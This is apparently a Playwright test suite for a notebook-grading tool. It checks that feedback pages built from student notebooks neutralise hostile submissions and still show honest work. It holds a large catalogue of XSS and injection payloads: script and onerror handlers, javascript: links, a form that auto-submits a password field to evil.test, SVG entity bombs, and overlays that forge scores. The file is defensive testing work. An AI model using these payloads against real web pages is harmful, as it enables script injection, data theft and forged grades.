"""Feedback pages in a real browser: a hostile submission neither runs nor loads nor covers anything; honest work shows.

Every payload is first seen to do harm, or to be shown as markup, on the page that nbgrader makes of it by itself,
unless it is listed as one against which that page holds too.
"""

import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_output, new_raw_cell
from playwright.sync_api import expect

from course_lib.checking.report import Diagnosis, Report, ReportRow
from course_lib.grading import feedback
from tests.grading.feedback_pages import code, error, markdown, page_of, plot, printed, shown, stock_page_of

pytestmark = pytest.mark.browser

EVIL = "http://evil.test/x"
RUN = "window.ran=1"
IMAGE = f"<img src=x onerror={RUN}>"
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
OVER = "top:0;left:0;width:4000px;height:4000px;background:#fff;z-index:9999"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
BOMB = "".join(f'<g id="l{i}">' + f'<use xlink:href="#l{i - 1}"/>' * 10 + "</g>" for i in range(1, 9))


def html(markup, **metadata):
    return code("answer", new_output("display_data", {"text/html": markup}, metadata=metadata))


def with_metadata(cell, **more):
    cell.metadata.update(NotebookNode(more))
    return cell


def attached(name, **bundle):
    kinds = {"png": "image/png", "svg": "image/svg+xml", "html": "text/html"}
    return markdown(f"![p](attachment:{name})", attachments={name: {kinds[key]: data for key, data in bundle.items()}})


# Payloads by the place through which they enter, as cells.
PAYLOADS = {
    "script": html(f"<script>{RUN}</script>"),
    "script from elsewhere": html(f'<script src="{EVIL}.js"></script>'),
    "an image's error": html(IMAGE),
    "svg in HTML": html(f"<svg onload={RUN}><script>{RUN}</script><a href='javascript:{RUN}'><text>go</text></a>"),
    "frame of a document": html(f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"),
    "frame of a script": html(f"<iframe src='javascript:parent.{RUN}'></iframe>"),
    "frame from elsewhere": html(f"<iframe src='{EVIL}'></iframe>"),
    "object": html(f"<object data='{EVIL}'></object><embed src='{EVIL}'><applet code='{EVIL}'></applet>"),
    "form that sends itself": html(
        f"<form id=f action='{EVIL}'><input name=password></form><script>f.submit()</script>"
        f"<input type=image src='{EVIL}.png' formaction='{EVIL}'>"
    ),
    "refresh": html(f"<meta http-equiv=refresh content='0;url={EVIL}'>"),
    "base": html(f"<base href='{EVIL}/'><img src='picture.png'>"),
    "linked style": html(f"<link rel=stylesheet href='{EVIL}.css'>"),
    "preload": html(f"<link rel=preload as=image href='{EVIL}.png'><link rel=prefetch href='{EVIL}'>"),
    "imported style": html(f"<style>@import '{EVIL}.css'; h4 {{ display: none }}</style>"),
    "style that loads": html(f"<div style=\"background: url('{EVIL}.png'); list-style: url({EVIL})\">text</div>"),
    "fixed overlay": html(f"<div style='position:fixed;{OVER}'>FORGED Score: 5.0 / 5.0</div>"),
    "absolute overlay": html(f"<div style='position:absolute;{OVER}'>FORGED</div>"),
    "negative margin": html(f"<div style='margin:-4000px;position:relative;{OVER}'>FORGED</div>"),
    "moved by transform": html(f"<div style='transform:translateY(-2000px) scale(50);{OVER}'>FORGED</div>"),
    "class of the page": html(
        "<div class='navbar-fixed-top modal-backdrop in'>FORGED</div>"
        "<div class='modal show' style='display:block'>FORGED"
    ),
    "out of its box": html("</div>" * 9 + "<div class='panel-heading'><h4>FORGED (Score: 5.0 / 5.0)</h4></div>"),
    "script behind a link": html(f"<a href='javascript:{RUN}'>go</a>"),
    "script behind a disguised link": html(f"<a href=' java&#9;scr&#x0a;ipt&colon;{RUN}'>go</a>"),
    "document behind a link": html(f"<a href='data:text/html,<script>opener.{RUN}</script>'>go</a>"),
    "link to the reader's own server": html("<a href='../../logout'>go</a><img src='/logout'>"),
    "tracking image": html(f"<img src='{EVIL}.png'><img srcset='{EVIL}.png 1x'><picture><source srcset='{EVIL}.png'>"),
    "media": html(f"<video src='{EVIL}' poster='{EVIL}.png' autoplay></video><audio src='{EVIL}' autoplay></audio>"),
    "toggled details": html(f"<details open ontoggle={RUN}><summary>s</summary>t</details>"),
    "focus": html(f"<input autofocus onfocus={RUN}><div tabindex=0 autofocus onfocus={RUN}>"),
    "body": html(f"<body onload={RUN} style='display:none'>"),
    "animation": html(f"<style>@keyframes k{{}}</style><div style='animation:k 1ms' onanimationstart={RUN}>"),
    "popover": html(f"<dialog open style='position:fixed;{OVER}'>FORGED</dialog><marquee onstart={RUN}>m</marquee>"),
    "parsed twice": html(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;" + IMAGE.replace("<", "&lt;") + "'>"
        f"<noscript><p title='</noscript>{IMAGE}'></noscript><svg></p><style><a id='</style>{IMAGE}'>"
    ),
    "template and comment": html(f"<template>{IMAGE}</template><!--><script>{RUN}</script>--><![CDATA[{IMAGE}]]>"),
    "isolated HTML": html(f"<script>parent.{RUN}</script><img src='{EVIL}.png'>", **{"text/html": {"isolated": True}}),
    "stolen anchor": html("<a name='a-test'></a><p id='a-test'>FORGED</p><p id='cell-id=x'>FORGED</p>"),
    "very deep": html("<div>" * 5000 + IMAGE),
    "plotly": html(f"<div id=p></div><script src='{EVIL}/plotly.js'></script><script>{RUN}</script>"),
    "svg": code("x", shown(svg=f"<svg {SVG} onload='{RUN}'><script>{RUN}</script><image href='{EVIL}'/></svg>")),
    "svg with HTML": code(
        "x",
        shown(svg=f"<svg {SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{IMAGE}</body></foreignObject></svg>"),
    ),
    "svg with entities": code("x", shown(svg=f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{EVIL}">]><svg {SVG}>&e;</svg>')),
    "svg bomb": code("x", shown(svg=f'<svg {SVG}><path id="l0" d="M0 0h1"/>{BOMB}<use xlink:href="#l8"/></svg>')),
    "svg out of its attribute": code("x", shown(svg=f'"><script>{RUN}</script>')),
    "javascript": code("x", shown(javascript=RUN)),
    "mermaid": code("x", new_output("display_data", {"text/vnd.mermaid": f"graph\n{IMAGE}"})),
    "widget": code("x", new_output("display_data", {WIDGET: {"model_id": f"</script><script>{RUN}</script>"}})),
    "vega": code("x", new_output("display_data", {"application/vnd.vega.v5+json": {"url": EVIL}})),
    "latex": code("x", shown(text_latex=f"${IMAGE}$ \\href{{javascript:{RUN}}}{{go}} \\require{{html}}")),
    "markdown output": code("x", shown(text_markdown=f"# Title\n\n{IMAGE}\n\n[go](javascript:{RUN})")),
    "markdown": markdown(f"<script>{RUN}</script>\n\ntext {IMAGE}"),
    "markdown link": markdown(f"[go](javascript:{RUN}) <javascript:{RUN}> [go]: x"),
    "markdown image": markdown(f'![p]({EVIL}.png "t") ![q](x" onerror="{RUN})'),
    "markdown out of its box": markdown("</div>\n" * 9 + "\n<h4>FORGED</h4>"),
    "markdown code": markdown(f'```html" onmouseover="{RUN}\n{IMAGE}\n```\n\n```mermaid\n{IMAGE}\n```'),
    "formula": markdown(f"${IMAGE}$ and $$\\style{{position:fixed}}{{\\href{{javascript:{RUN}}}{{go}}}}$$"),
    "formula environment": markdown(f"\\begin{{align}}{IMAGE}\\end{{align}}"),
    "attached document": attached("a.png", html="PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4="),
    "attached out of its attribute": attached("a.png", png=f'"><script>{RUN}</script>'),
    "missing attachment": markdown(f"![p](attachment:none.png) {IMAGE}"),
    "raw": new_raw_cell(f"<script>{RUN}</script>"),
    "raw HTML": with_metadata(new_raw_cell(IMAGE), raw_mimetype="text/html"),
    "printed": code("x", printed(f"<script>{RUN}</script>{IMAGE}")),
    "escape codes": code(
        "x", printed(f"\x1b[31m<b onclick={RUN}>\x1b]8;;javascript:{RUN}\x07go\x1b]8;;\x07\x1b[38;2;1;1m")
    ),
    "traceback": code("x", error("E", "e", [f"\x1b[31m<script>{RUN}</script>", IMAGE])),
    "plain text": code("x", shown(text_plain=IMAGE)),
    "source": code(f"</pre></div><script>{RUN}</script>{IMAGE}"),
    "tags and id": with_metadata(code("x"), tags=[f'"><script>{RUN}</script>', "modal"]),
    "name of a graded cell": code("x", name=f'"><script>{RUN}</script>', grade=True, score=1.0, points=1.0),
    "grader's comment": code("x", solution=True, name="s", comment=f"Good. {IMAGE} <script>{RUN}</script>"),
    "picture out of its attribute": code("x", shown(png=f'"><script>{RUN}</script>')),
    "picture from elsewhere": code(
        "x", new_output("display_data", {"image/png": "AAAA"}, metadata={"filenames": {"image/png": f"{EVIL}.png"}})
    ),
    "picture's width": code(
        "x", new_output("display_data", {"image/png": plot()[1]}, metadata={"image/png": {"width": f"1 onload={RUN}"}})
    ),
    "picture's words": code(
        "x", new_output("display_data", {"image/png": plot()[1]}, metadata={"image/png": {"alt": f'" onload="{RUN}'}})
    ),
}  # fmt: skip
NOTEBOOKS = {
    "title": {"title": f"</title><script>{RUN}</script>"},
    "widgets": {"widgets": {STATE: {"state": {"m": {"x": f"</script><script>{RUN}</script>"}}}}},
    "language": {"language_info": {"name": f'"><script>{RUN}</script>', "pygments_lexer": f"'><script>{RUN}</script>"}},
}
# Against these nbgrader's page holds as well, offline at least: nbconvert escapes there, or the browser forgives.
HELD_BY_NBGRADER = {
    "document behind a link", "svg", "svg with HTML", "svg with entities", "svg out of its attribute", "javascript",
    "mermaid", "widget", "vega", "latex", "formula", "formula environment", "attached document",
    "attached out of its attribute", "raw", "raw HTML", "printed", "escape codes", "traceback", "plain text", "source",
    "tags and id", "picture out of its attribute", "picture's words",
}  # fmt: skip
# Of these it makes no page at all, or one that no browser opens in time.
NO_PAGE_BY_NBGRADER = {"missing attachment", "svg bomb"}


def opened(browser, path: Path, **context) -> SimpleNamespace:
    """Open the page without a network, click what says "go", and tell what has happened."""
    context = browser.new_context(viewport={"width": 1000, "height": 800}, **context)
    page = context.new_page()
    seen = SimpleNamespace(page=page, requests=[], sent=[], complaints=[], address=path.as_uri())
    context.on("request", lambda request: seen.requests.append(request.url))
    context.on("page", lambda other: seen.requests.append(f"new window {other.url}"))
    page.on("console", lambda message: seen.complaints.append(message.text))

    def refuse(route):
        seen.sent.append(route.request.url)
        route.abort()

    context.route(re.compile("^(?!data:|file:///.*feedback.html$)"), refuse)
    page.goto(seen.address)
    for link in (each for each in page.get_by_text("go", exact=True).all() if each.is_visible()):
        link.click(force=True, timeout=1000, no_wait_after=True)
    page.mouse.move(300, 400)
    page.wait_for_timeout(50)
    return seen


def harm(seen) -> list[str]:
    """Return what a hostile submission has achieved on the page."""
    page, found = seen.page, []
    if page.evaluate("window.ran"):
        found.append("a script ran")
    allowed = (seen.address, "data:image/")
    found += [f"asked for {url}" for url in seen.requests if not url.startswith(allowed)]
    if page.url.partition("#")[0] != seen.address:
        return [*found, f"went to {page.url}"]
    found += page.evaluate(
        """() => {
        const found = [];
        const forbidden = 'script, iframe, object, embed, form, input, button, base, link, meta[http-equiv=refresh]'
            + ', svg, math, video, audio, dialog, marquee, template, frame, body style';
        for (const each of document.querySelectorAll(forbidden)) found.push('element ' + each.tagName);
        for (const each of document.querySelectorAll('body, body *')) {
            for (const name of each.getAttributeNames()) if (name.startsWith('on')) found.push('handler ' + name);
            if (['fixed', 'absolute', 'sticky'].includes(getComputedStyle(each).position)) found.push('positioned');
        }
        const boxes = '.output_subarea, .rendered_html, .input_area, .panel-footer';
        const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        while (texts.nextNode())
            if (texts.currentNode.data.includes('FORGED') && !texts.currentNode.parentElement.closest(boxes))
                found.push('out of its box');
        for (const heading of document.querySelectorAll('h4, .panel-heading')) {
            heading.scrollIntoView({block: 'center'});
            const box = heading.getBoundingClientRect();
            const top = document.elementFromPoint(box.left + 20, box.top + box.height / 2);
            if (heading.closest(boxes)) continue;
            if (!top || !(heading.contains(top) || top.contains(heading))) found.push('a heading is covered');
        }
        const anchor = document.querySelector('#a-test, [name="a-test"]');
        if (anchor && anchor.closest(boxes)) found.push('an anchor is stolen');
        return found; }"""
    )
    return found


def around(cell) -> list:
    """Return `cell` between a graded cell, which it could cover, and another, whose anchor it could steal."""
    before = code("before", name="before", grade=True, score=1.0, points=2.0)
    return [before, cell, code("after", printed("after"), name="a-test", grade=True, score=2.0, points=3.0)]


@pytest.fixture
def visit(browser, tmp_path):
    """Return a function that opens a page as `opened` does, and closes it after the test."""
    pages = []

    def visit(page: str, **context) -> SimpleNamespace:
        path = tmp_path / "feedback.html"
        path.write_text(page, encoding="utf-8")
        pages.append(opened(browser, path, **context))
        return pages[-1]

    yield visit
    for each in pages:
        each.page.context.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_cell_does_nothing(visit, name):
    seen = visit(page_of(*around(PAYLOADS[name])))
    assert harm(seen) == []
    # Not even the policy had to stop anything.
    assert seen.complaints == []
    assert "after" in seen.page.inner_text("body")


@pytest.mark.parametrize("name", sorted(PAYLOADS.keys() - HELD_BY_NBGRADER - NO_PAGE_BY_NBGRADER))
def test_the_same_cell_does_harm_on_the_page_that_nbgrader_makes_by_itself(visit, name):
    cdn = "asked for https://cdnjs.cloudflare.com/"
    found = [each for each in harm(visit(stock_page_of(*around(PAYLOADS[name])))) if not each.startswith(cdn)]
    assert set(found) - {"element SCRIPT"}


@pytest.mark.parametrize("name", NOTEBOOKS)
def test_hostile_metadata_does_nothing(visit, name):
    seen = visit(page_of(*around(code("x = 1")), metadata=NOTEBOOKS[name]))
    assert harm(seen) == seen.complaints == []


def test_a_hostile_file_name_does_nothing(visit):
    seen = visit(page_of(*around(code("x")), name=f'"><img src=x onerror={RUN}><title>'))
    assert harm(seen) == seen.complaints == []
    assert "onerror" in seen.page.inner_text("h4")


def everything() -> list:
    return around(code("x")) + [cell for name, cell in PAYLOADS.items() if name not in ("very deep", "svg bomb")]


def test_all_of_it_on_one_page_does_nothing(visit):
    seen = visit(page_of(*everything()))
    assert harm(seen) == seen.complaints == []


def test_without_the_copy_the_page_is_still_cleaned(visit, monkeypatch):
    """The layers are independent: a kind of output that the copy forgot would still be harmless."""
    monkeypatch.setattr(feedback, "harmless", lambda notebook: notebook)
    monkeypatch.setattr(feedback, "clean_html", lambda html: html)
    cells = [cell for name, cell in PAYLOADS.items() if name not in LOOKS]
    seen = visit(page_of(*cells))
    assert harm(seen) == seen.complaints == []


# What only the first layer stops: the second lets markup stand anywhere on the page, under any class and anchor.
LOOKS = {"very deep", "svg bomb", "class of the page", "out of its box", "markdown out of its box", "stolen anchor"}


def test_without_both_the_policy_lets_nothing_run_or_load(visit, monkeypatch):
    monkeypatch.setattr(feedback, "harmless", lambda notebook: notebook)
    monkeypatch.setattr(feedback, "clean_html", lambda html: html)
    monkeypatch.setattr(feedback, "clean_page", lambda html: html)
    # A policy does not stop a link, a refresh or a form that a script sends; these need no script to be clicked.
    leaves = {"refresh", "link to the reader's own server", "very deep", "svg bomb"}
    seen = visit(page_of(*(cell for name, cell in PAYLOADS.items() if name not in leaves)))
    assert not seen.page.evaluate("window.ran")
    assert seen.sent == []  # what the policy stops is asked for, and not sent
    assert any("Content Security Policy" in each for each in seen.complaints)


# --- Honest work ----------------------------------------------------------------------------------------------------

TABLE = (
    '<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style><table border="1" class="dataframe">'
    '<thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
    "<tbody><tr><th>0</th><td>0.25</td></tr></tbody></table></div>"
)
PROSE = r"""# Losses

The **mean** of $\frac12 (y - \hat y)^2$, where $\sigma(z) = \frac{1}{1 + e^{-z}}$:

$$L = -\sum_{k=1}^{K} y_k \log \hat{y}_k$$

| name | value |
| --- | --- |
| MSE | 0.5 |

```python
def double(x):
    return 2 * x
```

- [a paper](https://example.org/paper), [above](#Losses)

![a picture](attachment:p.png)

$$\begin{cases} 1 \\ 2 \end{cases}$$
"""


def honest_page() -> str:
    svg, png = plot()
    rows = [ReportRow("one row", True), ReportRow("a batch", False, expected="[0.5, 0.5]", actual="[0.25, 0.25]")]
    mistake = Diagnosis("sure", "over all", "You divide by the sum over the `whole` array.")
    report = Report("softmax", rows, 1.0, 2.0, mistake)._repr_mimebundle_()
    return page_of(
        markdown(PROSE, attachments={"p.png": {"image/png": png}}),
        code(
            "def softmax(z):\n    return z",
            printed("\x1b[31mred\x1b[0m <b>text</b>\n"),
            solution=True,
            name="softmax",
            comment="Look at the *axis*.",
        ),
        code(
            "check('softmax', softmax)",
            new_output("execute_result", report, execution_count=1),
            grade=True,
            score=1.0,
            points=2.0,
            name="softmax-test",
        ),
        code("frame", shown(text_html=TABLE, text_plain="frame")),
        code("plot()", shown(svg=svg), shown(png=png, text_plain="<Figure>")),
        code("formula", shown(text_latex=r"$\displaystyle \frac{x}{y}$")),
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_honest_work_is_shown(visit, scheme):
    seen = visit(honest_page(), color_scheme=scheme)
    page = seen.page
    assert harm(seen) == seen.complaints == []
    expect(page.locator("h4")).to_have_text("losses (Score: 3.0 / 5.0)")
    expect(page.locator("li", has_text="Test cell")).to_contain_text("(Score: 1.0 / 2.0)")
    expect(page.locator("strong", has_text="mean")).to_be_visible()
    expect(page.get_by_role("cell", name="0.25", exact=True)).to_be_visible()
    expect(page.get_by_role("cell", name="MSE")).to_be_visible()
    expect(page.locator(".panel-footer em")).to_have_text("axis")
    expect(page.locator(".highlight .k", has_text="def")).to_have_count(2)
    assert "red <b>text</b>" in page.inner_text("body")
    assert page.locator(".ansi-red-fg").evaluate("each => getComputedStyle(each).color") == "rgb(178, 43, 49)"
    formulas = page.locator("img.formula")
    assert [formula.get_attribute("alt") for formula in formulas.all()] == [
        r"\frac12 (y - \hat y)^2",
        r"\sigma(z) = \frac{1}{1 + e^{-z}}",
        r"L = -\sum_{k=1}^{K} y_k \log \hat{y}_k",
        r"\displaystyle \frac{x}{y}",
    ]
    pictures = page.locator("img").evaluate_all("all => all.map(each => [each.naturalWidth, each.clientHeight])")
    assert len(pictures) == 4 + 3
    assert all(width > 0 and height >= 7 for width, height in pictures)
    expect(page.get_by_text(r"\begin{cases}")).to_be_visible()


def test_our_report_looks_as_in_the_lab(visit):
    page = visit(honest_page()).page
    row = page.get_by_role("row", name="a batch")
    expect(row.locator("code")).to_have_text(["[0.25, 0.25]", "[0.5, 0.5]"])
    box = page.locator("div[style*='border-left']")
    expect(box).to_contain_text("1 of 2 points")
    border = "each => [getComputedStyle(each).borderLeftWidth, getComputedStyle(each).borderLeftColor]"
    assert box.evaluate(border) == ["5px", "rgb(213, 94, 0)"]
    expect(page.locator("code", has_text="whole")).to_be_visible()


@pytest.mark.parametrize("width", [320, 390, 1366])
def test_scores_and_arrays_can_be_read_on_a_phone_as_on_a_laptop(visit, width):
    """A score lies in its heading, above the code; a row of an array is one line, which the box lets move."""
    arrays = {"expected": "[[→0   0   0   0   0   6]\n [ 4   5   5   7   1   3]]", "actual": "[[1 2]]"}
    rows = [ReportRow(f"a batch of some width, {number}", False, **arrays) for number in (1, 2)]
    report = Report("f", rows, 0.0, 3.0, Diagnosis("sure", "", "Wrong."))._repr_mimebundle_()
    shown = new_output("execute_result", report, execution_count=1)
    page = visit(
        page_of(code("check()", shown, grade=True, score=0.0, points=3.0, name="global_max_pooling-check"))
    ).page
    page.set_viewport_size({"width": width, "height": 800})
    heading, score, name = (
        page.locator(f".nbgrader_cell .panel-heading{part}").bounding_box() for part in ("", " .pull-right", " code")
    )
    below = page.locator(".nbgrader_cell .input_area").bounding_box()
    for inside in (score, name):
        assert heading["x"] <= inside["x"] and inside["x"] + inside["width"] <= heading["x"] + heading["width"]
        assert heading["y"] <= inside["y"] and inside["y"] + inside["height"] <= heading["y"] + heading["height"]
    assert heading["y"] + heading["height"] <= below["y"] and below["width"] > 0.8 * heading["width"]
    lines = """each => {
        const range = document.createRange();
        range.selectNodeContents(each);
        return new Set([...range.getClientRects()].map(line => Math.round(line.top))).size; }"""
    assert page.locator("td pre").nth(1).evaluate(lines) == 2
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_links_lead_where_they_say_and_tell_nobody_who_came(visit):
    page = visit(honest_page()).page
    link = page.get_by_role("link", name="a paper")
    assert link.get_attribute("href") == "https://example.org/paper"
    assert link.get_attribute("rel") == "noopener noreferrer"
    page.get_by_role("link", name="Test cell").click()
    assert page.url.endswith("#softmax-test")
    page.get_by_role("link", name="above").click()
    assert page.evaluate("document.querySelector(':target')?.tagName") == "H1"
